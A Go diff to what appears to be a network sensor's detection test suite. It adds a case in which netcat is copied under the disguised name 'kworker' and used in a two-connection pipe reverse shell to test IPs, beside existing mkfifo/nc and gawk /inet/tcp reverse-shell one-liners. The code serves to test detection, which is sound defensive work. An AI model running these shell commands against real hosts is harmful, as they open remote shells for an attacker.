@@ -24,9 +24,14 @@ import (
 type revshellCase struct {
 	name, c2, port string
 	udp, pty       bool
-	argv           func(dir string) []string
-	tech, proc     string
-	note           string
+	// c2out is a second listener (port 4444) for a shell whose output
+	// leaves by another connection (nc | sh | nc); either may be named.
+	c2out string
+	// renamed copies /bin/nc.openbsd to DIR/kworker before the attack.
+	renamed    bool
+	argv       func(dir string) []string
+	tech, proc string
+	note       string
 }
 
 func TestReverseShellRelays(t *testing.T) {
@@ -64,6 +69,15 @@ func TestReverseShellRelays(t *testing.T) {
 			note: "mkfifo F; cat F | sh -i 2>&1 | nc … > F (netcat-openbsd)",
 		},
 		{
+			name: "revshell_nc_pipes_renamed", c2: "198.51.100.37", c2out: "198.51.100.38", port: "4444", renamed: true,
+			argv: func(dir string) []string {
+				k := filepath.Join(dir, "kworker")
+				return []string{"timeout", "25", "sh", "-c", k + " 198.51.100.37 4444 | sh -i 2>&1 | " + k + " 198.51.100.38 4444"}
+			},
+			tech: "T1059.004", proc: "sh",
+			note: "kworker a 4444 | sh -i 2>&1 | kworker b 4444, kworker a copy of netcat-openbsd's nc",
+		},
+		{
 			name: "revshell_gawk_inet", c2: "198.51.100.33", port: "4444",
 			argv: func(string) []string {
 				return []string{"timeout", "25", "gawk", `BEGIN { s = "/inet/tcp/0/198.51.100.33/4444"; while ((s |& getline c) > 0) { while ((c |& getline line) > 0) print line |& s; close(c) } }`}
@@ -99,12 +113,26 @@ func TestReverseShellRelays(t *testing.T) {
 				} else {
 					listenOnce(t, topo, tc.c2, tc.port, "")
 				}
+				dest := destIs(tc.c2)
+				if tc.c2out != "" {
+					listenOnce(t, topo, tc.c2out, tc.port, "")
+					dest = func(e map[string]any) bool { return destIs(tc.c2)(e) || destIs(tc.c2out)(e) }
+				}
+				dir := t.TempDir()
+				if tc.renamed {
+					run(t, exec.Command("cp", "/bin/nc.openbsd", filepath.Join(dir, "kworker")))
+				}
 				s := startSensor(t, topo, tc.name, sensorOptions{mode: m})
-				argv := tc.argv(t.TempDir())
+				argv := tc.argv(dir)
 				_, start := hostStart(t, topo, 30*time.Second, argv[0], argv[1:]...)
-				e := s.expect(t, tc.name, tc.tech, start, tc.note, and(isTechnique("reverse_shell", tc.tech), destIs(tc.c2), procIs(tc.proc)))
+				e := s.expect(t, tc.name, tc.tech, start, tc.note, and(isTechnique("reverse_shell", tc.tech), dest, procIs(tc.proc)))
 				wantField(t, e, "process.name", tc.proc)
 				wantField(t, e, "destination.port", tc.port)
+				if tc.renamed && m.Privileged {
+					if r := str(e, "netsentinel.evidence.relay"); r != "kworker" {
+						t.Errorf("relay %q, want the renamed nc (kworker); %s", r, describe(e))
+					}
+				}
 				// As root the pty's master is found on the relay's fds.
 				if m.Privileged && tc.pty && field(e, "netsentinel.evidence.pty_master") == nil {
 					t.Errorf("root sensor did not read the pty master's holder: %s", describe(e))
